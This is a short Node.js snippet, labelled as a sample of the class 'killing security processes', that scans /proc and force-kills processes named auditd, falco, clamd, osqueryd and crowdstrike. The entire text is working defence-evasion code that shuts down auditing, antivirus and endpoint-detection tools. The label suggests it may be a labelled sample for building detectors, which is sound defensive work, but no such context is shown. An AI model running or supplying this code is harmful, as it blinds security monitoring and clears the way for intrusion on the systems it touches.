// class: killing security processes; style: loop
const fs = require('fs');
const names = ['auditd', 'falco', 'clamd', 'osqueryd', 'crowdstrike'];
for (const pid of fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
  try {
    const comm = fs.readFileSync(`/proc/${pid}/comm`, 'utf8').trim();
    if (names.includes(comm)) process.kill(+pid, 'SIGKILL');
  } catch {}
}
